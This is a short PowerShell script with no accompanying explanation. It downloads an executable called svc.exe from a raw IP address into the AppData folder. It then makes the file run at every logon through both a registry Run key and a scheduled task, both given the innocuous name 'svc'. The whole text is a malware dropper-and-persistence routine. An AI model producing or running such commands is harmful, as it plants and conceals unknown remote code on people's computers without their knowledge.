$p = "$env:APPDATA\svc.exe"
Invoke-WebRequest -Uri 'http://203.0.113.77/svc.exe' -OutFile $p
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'svc' -Value $p
schtasks /create /sc onlogon /tn svc /tr $p
